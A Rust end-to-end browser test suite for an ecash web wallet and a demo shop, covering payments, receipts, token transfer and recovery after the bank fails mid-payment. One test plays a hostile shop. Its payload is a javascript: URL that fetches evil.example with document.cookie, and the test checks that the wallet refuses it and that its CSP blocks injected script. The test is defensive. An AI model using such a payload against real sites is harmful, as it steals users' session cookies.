//! The web wallet end to end, in real headless Chromium, against the real
//! mint-server serving the Trunk-built app and the demo merchant, a process
//! of its own on its own origin that banks at the mint over HTTP: create,
//! faucet, withdraw, the shop's catalogue, order and pay through its link
//! (wallet → merchant → bank, each step checked), fulfillment page with the
//! sticker as an image and a readable receipt, the shop keeper's orders
//! page, reload, send to a second browser profile; too little money; the
//! bank killed mid-payment (the merchant stays up) and restarted.
//! Each step saves a screenshot under `target/e2e-screenshots/`.

// Test code: a helper that meets what it did not expect panics, as the
// tests themselves do (clippy.toml allows it only inside #[test] functions).
#![allow(clippy::expect_used, clippy::unwrap_used)]

use std::time::{Duration, Instant};

use browser_e2e::*;
use ecash_core::shop::{GoodsKind, OrderState};

fn money(s: &str) -> impl Fn(&str) -> bool + '_ {
    move |t: &str| t.trim() == s
}

/// The `<dd>` after the receipt's `<dt>` named `term`.
async fn receipt_row(c: &fantoccini::Client, term: &str) -> String {
    let v = c
        .execute(
            "const dts = [...document.querySelectorAll('#receipt dt')]; \
             const dt = dts.find((d) => d.textContent === arguments[0]); \
             return dt && dt.nextElementSibling ? dt.nextElementSibling.textContent : null;",
            vec![serde_json::json!(term)],
        )
        .await
        .expect("read the receipt");
    v.as_str()
        .unwrap_or_else(|| panic!("no {term:?} row in the receipt"))
        .to_owned()
}

#[tokio::test(flavor = "current_thread")]
async fn wallet_and_shop_in_the_browser() {
    let mut mint = wallet_mint(&[]);
    let merchant = merchant_at(&mint, &[]);
    let driver = Driver::start();
    let profiles = tempfile::tempdir().expect("profiles");
    let a = driver.session(&profiles.path().join("a")).await;
    let url = mint.url().to_owned();
    let wallet = wallet_url(&mint);
    let shop_url = merchant.url().to_owned();
    assert_ne!(shop_url, url, "the shop has an origin of its own");
    let shop = shop_client(&shop_url);
    let bank = bank_client(&url);
    let shop_page = |path: String| format!("{shop_url}{path}");

    // 1. Open the wallet and create it; the seed is shown once.
    let t0 = Instant::now();
    a.goto(&wallet).await.expect("open wallet");
    click(&a, "#create").await;
    let seed = wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
    assert_eq!(seed.matches('-').count(), 15);
    screenshot(&a, "01-created-seed").await;
    click(&a, "#seed-ok").await;

    // 2. Faucet, then withdraw.
    fill(&a, "#faucet-amount", "50").await;
    click(&a, "#faucet-btn").await;
    wait_text(
        &a,
        "#account-balance",
        "account balance",
        money("50.00 DEMO"),
    )
    .await;
    fill(&a, "#withdraw-amount", "20").await;
    click(&a, "#withdraw-btn").await;
    wait_text(&a, "#message", "withdraw done", |t| {
        t.starts_with("Withdrew 20.00 DEMO")
    })
    .await;
    wait_text(
        &a,
        "#account-balance",
        "account debited",
        money("30.00 DEMO"),
    )
    .await;
    screenshot(&a, "02-withdrawn").await;
    click(&a, "#nav-balance").await;
    wait_text(&a, "#balance-total", "balance", money("20.00 DEMO")).await;
    let coins = text(&a, "#denominations tbody").await;
    assert!(!coins.trim().is_empty(), "coins by denomination are listed");

    // 3. The shop, at the merchant's own URL: the catalogue links each
    // item; pick one and order it (a POST: looking stores nothing).
    a.goto(&shop_page(api::CataloguePage::path(&())))
        .await
        .expect("shop");
    wait_text(&a, "#items", "the catalogue", |t| !t.trim().is_empty()).await;
    screenshot(&a, "03a-catalogue").await;
    click(
        &a,
        &format!("#items a[href='{}']", api::ItemPage::path("sticker")),
    )
    .await;
    click(&a, "#buy").await;
    wait_text(&a, "#pay-link", "pay link", |t| {
        t.contains("Pay with Ecash")
    })
    .await;
    let here = a.current_url().await.expect("url").to_string();
    let order_id = here
        .strip_prefix(&shop_page(api::OrderPage::path("")))
        .unwrap_or_else(|| panic!("the order page is the shop's: {here}"))
        .to_owned();
    assert!(!order_id.is_empty(), "{here}");
    // The link leads to the wallet (the bank's URL by default) with the
    // shop's payment request address in the fragment.
    assert_eq!(
        attr(&a, "#pay-link", "href").await.as_deref(),
        Some(pay_link(&wallet, &shop.payreq_url(&order_id)).as_str()),
        "the pay link"
    );
    screenshot(&a, "03-shop-order").await;

    // 4. Pay through the link flow.
    click(&a, "#pay-link").await;
    let amount = wait_text(&a, "#pay-amount", "payment amount", |t| t.contains("DEMO")).await;
    assert_eq!(amount.trim(), "0.99 DEMO");
    assert!(!text(&a, "#pay-description").await.trim().is_empty());
    let payee = text(&a, "#pay-merchant").await;
    assert!(
        payee.contains("demo-bank") && payee.contains(&merchant.account_id),
        "the shop's account at its bank: {payee}"
    );
    assert_eq!(
        text(&a, "#pay-origin").await.trim(),
        shop_url,
        "the shop's site (the merchant's origin) is shown"
    );
    let here = a.current_url().await.expect("url").to_string();
    assert!(
        here.starts_with(&url) && !here.contains("payreq"),
        "the wallet, and the request left the address bar: {here}"
    );
    screenshot(&a, "04-pay-confirm").await;
    click(&a, "#pay-confirm").await;

    // 5. Back at the shop's fulfillment page: goods and receipt.
    let title = wait_text(&a, "#goods-title", "the goods", |t| !t.is_empty()).await;
    let here = a.current_url().await.expect("url").to_string();
    let (page_url, fragment) = here.split_once('#').expect("a fragment");
    assert_eq!(
        page_url,
        shop_page(api::FulfillmentPage::path(&order_id)),
        "the shop's fulfillment page"
    );
    assert!(
        !here.contains('?'),
        "the payment id is in the fragment only: {here}"
    );
    let payment_id = wallet_wasm::links::fragment_value(fragment, "payment_id")
        .unwrap_or_else(|| panic!("a payment id in the fragment: {here}"));
    // The sticker is an image: an <img> of an SVG data: URL, with a caption.
    let src = attr(&a, "#goods figure.goods-image img", "src")
        .await
        .unwrap_or_default();
    assert!(
        src.starts_with("data:image/svg+xml"),
        "the image: {src:.80}"
    );
    let alt = attr(&a, "#goods figure.goods-image img", "alt")
        .await
        .unwrap_or_default();
    assert_eq!(alt, title, "the image is named");
    let caption = text(&a, "#goods figure.goods-image figcaption").await;
    assert!(caption.contains(&title), "the caption: {caption}");
    let drawn = a
        .execute(
            "const i = document.querySelector('#goods img'); \
             return i.complete && i.naturalWidth > 0;",
            vec![],
        )
        .await
        .expect("image state");
    assert_eq!(drawn, serde_json::json!(true), "the image is drawn");
    // The receipt, written for people.
    let receipt = text(&a, "#receipt").await;
    assert!(receipt.contains("0.99 DEMO"), "{receipt}");
    assert_eq!(receipt_row(&a, "Amount").await, "0.99 DEMO");
    assert_eq!(receipt_row(&a, "Order").await, order_id);
    assert_eq!(receipt_row(&a, "Payment").await, payment_id);
    assert!(!receipt_row(&a, "Shop's signature").await.is_empty());
    let delivery = shop
        .goods(
            &order_id,
            ecash_core::B32::from_b64(&payment_id).expect("a payment id"),
        )
        .await
        .expect("the goods, again");
    assert_eq!(delivery.kind, GoodsKind::SvgImage);
    let shop_key = bank
        .public_key(&merchant.account_id)
        .await
        .expect("the shop's key");
    delivery
        .receipt
        .verify(&shop_key)
        .expect("the receipt is signed by the shop's account key");
    let date = receipt_row(&a, "Date").await;
    let unix = delivery.receipt.body.date;
    assert!(
        !date.contains(&unix.to_string())
            && date.contains(&year_of(unix).to_string())
            && date.chars().any(|c| c.is_alphabetic()),
        "a date for people, not unix time {unix}: {date:?}"
    );
    screenshot(&a, "05-fulfillment").await;

    // The payment went wallet → merchant → bank: the shop took it at its
    // pay URL, deposited it at the bank, which credited the shop's account
    // with this payment, and the shop keeper's list shows the order paid.
    let paid_at_shop = format!("POST {} 200", api::Pay::path(&order_id));
    assert!(
        merchant.proc.log().contains(&paid_at_shop),
        "the merchant took the payment:\n{}",
        merchant.proc.log()
    );
    let deposited = format!("POST {} 200", api::Deposit::INFO.path);
    assert!(
        mint.proc.log().contains(&deposited),
        "the merchant deposited it at the bank:\n{}",
        mint.proc.log()
    );
    let st = shop_statement(&bank, &merchant).await;
    assert_eq!(st.balance.value, 99, "the shop's account: {st:?}");
    assert!(
        st.ledger
            .iter()
            .any(|e| e.delta == 99 && e.reason == "deposit" && e.reference == payment_id),
        "the bank credited this payment: {:?}",
        st.ledger
    );
    let list = shop.orders(&merchant.admin_token).await.expect("orders");
    let o = list
        .orders
        .iter()
        .find(|o| o.payreq_id == order_id)
        .expect("the order is listed");
    assert_eq!((o.state, o.item_id.as_str()), (OrderState::Paid, "sticker"));
    assert!(o.paid_at.is_some());
    assert_eq!((list.paid, list.paid_value), (1, 99));

    // The shop keeper's page: the token rides in the fragment.
    a.goto(&format!(
        "{}#key={}",
        shop_page(api::OrdersPage::path(&())),
        merchant.admin_token
    ))
    .await
    .expect("orders page");
    let row = format!("#orders tr[data-order='{order_id}']");
    wait_text(&a, &format!("{row} td.state"), "the paid order", |t| {
        t.trim() == "Paid"
    })
    .await;
    assert!(text(&a, &row).await.contains("0.99 DEMO"));
    let here = a.current_url().await.expect("url").to_string();
    assert!(
        !here.contains(&merchant.admin_token),
        "the token left the address bar: {here}"
    );
    screenshot(&a, "05b-shop-orders").await;

    // 6. Reload the wallet: the balance persisted in IndexedDB.
    let t_load = Instant::now();
    a.goto(&wallet).await.expect("wallet again");
    wait_text(
        &a,
        "#balance-total",
        "persisted balance",
        money("19.01 DEMO"),
    )
    .await;
    let load_ms = t_load.elapsed().as_millis();
    screenshot(&a, "06-reloaded").await;
    // Phone width: the same screen still fits.
    a.set_window_size(390, 844).await.expect("phone width");
    screenshot(&a, "06a-phone-width").await;
    a.set_window_size(1000, 1000).await.expect("desktop width");
    click(&a, "#nav-history").await;
    wait_text(&a, "#history", "the payment in history", |t| {
        t.contains("Paid") && t.contains("signed receipt")
    })
    .await;
    screenshot(&a, "06b-history").await;

    // 7. Send a token to a second browser profile, which receives it.
    click(&a, "#nav-send").await;
    fill(&a, "#send-amount", "1").await;
    click(&a, "#send-btn").await;
    let token = {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let v = value(&a, "#token-text").await;
            if v.starts_with("ecash1") {
                break v;
            }
            assert!(Instant::now() < deadline, "no token appeared");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    screenshot(&a, "07-send-token").await;
    let link = attr(&a, "#token-link", "href").await.expect("a link");
    assert!(
        link.starts_with(&format!("{wallet}#token=ecash1")) && !link.contains('?'),
        "the token rides in the fragment: {link}"
    );
    click(&a, "#nav-balance").await;
    wait_text(
        &a,
        "#balance-total",
        "balance after send",
        money("18.01 DEMO"),
    )
    .await;

    // The second profile opens the link: the token arrives in the Receive screen.
    let b = driver.session(&profiles.path().join("b")).await;
    b.goto(&wallet).await.expect("open wallet b");
    click(&b, "#create").await;
    wait_text(&b, "#seed-phrase", "seed b", |t| t.len() == 79).await;
    click(&b, "#seed-ok").await;
    b.goto(&link).await.expect("open the token link");
    let got = {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let v = value(&b, "#receive-token").await;
            if v.starts_with("ecash1") {
                break v;
            }
            assert!(
                Instant::now() < deadline,
                "the link did not fill in the token"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    assert_eq!(got, token);
    click(&b, "#receive-btn").await;
    wait_text(&b, "#message", "received", |t| {
        t.starts_with("Received 1.00 DEMO")
    })
    .await;
    click(&b, "#nav-balance").await;
    wait_text(&b, "#balance-total", "b's balance", money("1.00 DEMO")).await;
    screenshot(&b, "08-received-in-second-profile").await;

    // Failure: too little money shows the message; the balance is unchanged.
    b.goto(&shop_page(api::ItemPage::path("coffee")))
        .await
        .expect("coffee");
    click(&b, "#buy").await;
    click(&b, "#pay-link").await;
    wait_text(&b, "#pay-amount", "price", |t| t.contains("DEMO")).await;
    click(&b, "#pay-confirm").await;
    let msg = wait_text(&b, "#message", "insufficient funds", |t| {
        t.contains("Not enough money")
    })
    .await;
    assert!(msg.contains("you have 1.00"), "{msg}");
    screenshot(&b, "09-insufficient-funds").await;
    click(&b, "#nav-balance").await;
    wait_text(&b, "#balance-total", "b unchanged", money("1.00 DEMO")).await;

    // Failure: the bank stops (SIGKILL) mid-payment while the merchant
    // stays up; after the bank restarts on the same port and data, recovery
    // finishes what was journaled. If the price needs change, the first
    // round journals the change exchange, which the wallet itself could not
    // send to the bank (recovery gives the coins back as change); the second
    // round journals the payment itself, which reached the shop, whose
    // deposit met the dead bank: the shop answers `unavailable` and keeps
    // the order for this payment, and recovery sends the same payment again
    // (or the shop's own settler deposits it first), and it completes.
    let mut journaled_payment = false;
    for round in 1..=2 {
        a.goto(&shop_page(api::ItemPage::path("haiku")))
            .await
            .expect("haiku");
        click(&a, "#buy").await;
        click(&a, "#pay-link").await;
        let price = wait_text(&a, "#pay-amount", "price", |t| t.contains("DEMO")).await;
        assert_eq!(price.trim(), "0.25 DEMO");
        mint.proc.kill();
        click(&a, "#pay-confirm").await;
        let msg = wait_text(&a, "#message", "bank down", |t| {
            t.contains("cannot be reached")
        })
        .await;
        assert!(msg.contains("saved"), "{msg}");
        screenshot(&a, &format!("10-bank-down-mid-payment-round{round}")).await;
        click(&a, "#nav-history").await;
        let pending = wait_text(&a, "#pending", "pending operation", |t| !t.is_empty()).await;
        journaled_payment = pending.contains("payment");
        if journaled_payment {
            assert!(
                msg.contains("The shop's bank cannot be reached"),
                "the shop met the dead bank, not the wallet: {msg}"
            );
        }
        mint.proc.start_again();
        assert_eq!(mint.url(), url, "the bank is back at its address");
        a.goto(&wallet).await.expect("wallet after restart");
        wait_text(&a, "#message", "recovery report", |t| {
            t.contains("completed")
        })
        .await;
        let expect = if journaled_payment {
            "17.76 DEMO"
        } else {
            "18.01 DEMO"
        };
        wait_text(
            &a,
            "#balance-total",
            "balance after recovery",
            money(expect),
        )
        .await;
        screenshot(&a, &format!("11-recovered-round{round}")).await;
        click(&a, "#nav-history").await;
        wait_text(&a, "#pending-none", "nothing pending", |t| {
            t.contains("None")
        })
        .await;
        if journaled_payment {
            break;
        }
    }
    assert!(journaled_payment, "a journaled payment was recovered");
    // The recovered payment reached the bank through the shop: its account
    // holds both payments, and the shop lists two orders paid.
    let st = shop_statement(&bank, &merchant).await;
    assert_eq!(st.balance.value, 99 + 25, "the shop's account: {st:?}");
    let list = shop.orders(&merchant.admin_token).await.expect("orders");
    assert_eq!((list.paid, list.paid_value), (2, 99 + 25), "{list:?}");

    println!(
        "E2E page load to usable wallet (reload, balance shown): {load_ms} ms; whole run {} s",
        t0.elapsed().as_secs()
    );
    let _ = a.close().await;
    let _ = b.close().await;
}

/// Finding 1 in the browser: a shop that answers a payment with a
/// `javascript:` fulfillment URL (or puts one in its payment request) gets
/// nothing run: the wallet shows an error and stays; and the wallet page's
/// CSP stops script URLs and inline script even if something tried.
#[tokio::test(flavor = "current_thread")]
async fn a_hostile_shop_runs_no_script_in_the_wallet() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};

    let mint = wallet_mint(&[]);
    let url = mint.url().to_owned();
    let wallet = wallet_url(&mint);
    // The hostile shop: the demo merchant behind a proxy (its public URL,
    // so its links lead there) that rewrites its payment answers (and, when
    // asked, its payment requests).
    let in_payreq = Arc::new(AtomicBool::new(false));
    let flag = in_payreq.clone();
    let payload = "javascript:document.title='pwned';fetch('//evil.example/'+document.cookie)";
    let pay_prefix = api::Pay::path("");
    let payreq_prefix = api::PayreqApi::path("");
    let rewrite: Arc<Rewrite> = Arc::new(move |path: &str, body: &mut Vec<u8>| {
        let answer = path.starts_with(&pay_prefix);
        let payreq = path.starts_with(&payreq_prefix) && flag.load(Ordering::SeqCst);
        if !(answer || payreq) {
            return;
        }
        if let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(body) {
            v["fulfillment_url"] = serde_json::json!(payload);
            *body = serde_json::to_vec(&v).unwrap_or_default();
        }
    });
    let (merchant, proxy) = merchant_behind_proxy(&mint, mint.url(), Some(rewrite), &[]);
    let shop_url = proxy.url.clone();
    let shop = shop_client(&shop_url);

    // The wallet page carries the strict policy.
    let csp = reqwest::get(&wallet)
        .await
        .expect("wallet page")
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(
        csp.contains("script-src 'self' 'wasm-unsafe-eval';") && !csp.contains("unsafe-inline"),
        "{csp}"
    );

    let driver = Driver::start();
    let profiles = tempfile::tempdir().expect("profiles");
    let a = driver.session(&profiles.path().join("victim")).await;
    a.goto(&wallet).await.expect("open wallet");
    click(&a, "#create").await;
    wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
    click(&a, "#seed-ok").await;
    fill(&a, "#faucet-amount", "10").await;
    click(&a, "#faucet-btn").await;
    wait_text(&a, "#account-balance", "account", money("10.00 DEMO")).await;
    fill(&a, "#withdraw-amount", "5").await;
    click(&a, "#withdraw-btn").await;
    wait_text(&a, "#message", "withdrawn", |t| t.starts_with("Withdrew")).await;
    let title = a.title().await.expect("title");

    // An order made at the shop's (proxy's) address: the wallet link that pays it.
    let order = |item: &'static str| {
        let (shop, wallet, shop_url) = (&shop, &wallet, &shop_url);
        async move {
            let p = shop.order(item).await.expect("order");
            assert!(p.pay_url.starts_with(shop_url.as_str()), "{}", p.pay_url);
            pay_link(wallet, &shop.payreq_url(&p.payreq_id))
        }
    };

    // A payment request whose fulfillment URL is script: refused before paying.
    in_payreq.store(true, Ordering::SeqCst);
    let link = order("haiku").await;
    a.goto(&link).await.expect("pay link");
    let msg = wait_text(&a, "#message", "refusal", |t| t.contains("cannot be paid")).await;
    assert!(msg.contains("javascript:"), "{msg}");
    assert!(text(&a, "#pay-confirm").await.is_empty(), "no pay button");
    screenshot(&a, "12-hostile-payreq-refused").await;
    in_payreq.store(false, Ordering::SeqCst);

    // An honest-looking request, answered with a script URL after payment.
    let link = order("haiku").await;
    a.goto(&link).await.expect("pay link");
    let site = wait_text(&a, "#pay-origin", "the shop's site", |t| !t.is_empty()).await;
    assert_eq!(site.trim(), shop_url);
    click(&a, "#pay-confirm").await;
    let msg = wait_text(&a, "#message", "the refused link", |t| {
        t.contains("will not follow")
    })
    .await;
    assert!(msg.contains("javascript:"), "{msg}");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let here = a.current_url().await.expect("url").to_string();
    assert!(here.starts_with(&url), "the wallet navigated away: {here}");
    assert_eq!(a.title().await.expect("title"), title, "the script ran");
    screenshot(&a, "13-hostile-answer-refused").await;
    click(&a, "#nav-history").await;
    wait_text(&a, "#history", "the payment", |t| t.contains("Paid")).await;
    // A real payment, made at the hostile shop's address: the shop banked it.
    let st = shop_statement(&bank_client(&url), &merchant).await;
    assert_eq!(st.balance.value, 25, "the shop's account: {st:?}");
    assert!(
        proxy.report().0 >= 3,
        "orders and payment went through the proxy"
    );
    let script_links = a
        .execute(
            "return document.querySelectorAll('a[href^=\"javascript:\"]').length",
            vec![],
        )
        .await
        .expect("count links");
    assert_eq!(
        script_links,
        serde_json::json!(0),
        "a script link on the page"
    );

    // Even a script URL or an inline script put in the page does nothing: the CSP.
    a.execute(
        "location.href = \"javascript:document.title='csp-bypassed'\"; \
         const s = document.createElement('script'); \
         s.textContent = \"document.title='inline-ran'\"; document.body.append(s);",
        vec![],
    )
    .await
    .expect("execute");
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(
        a.title().await.expect("title"),
        title,
        "the CSP let script run"
    );
    let _ = a.close().await;
}
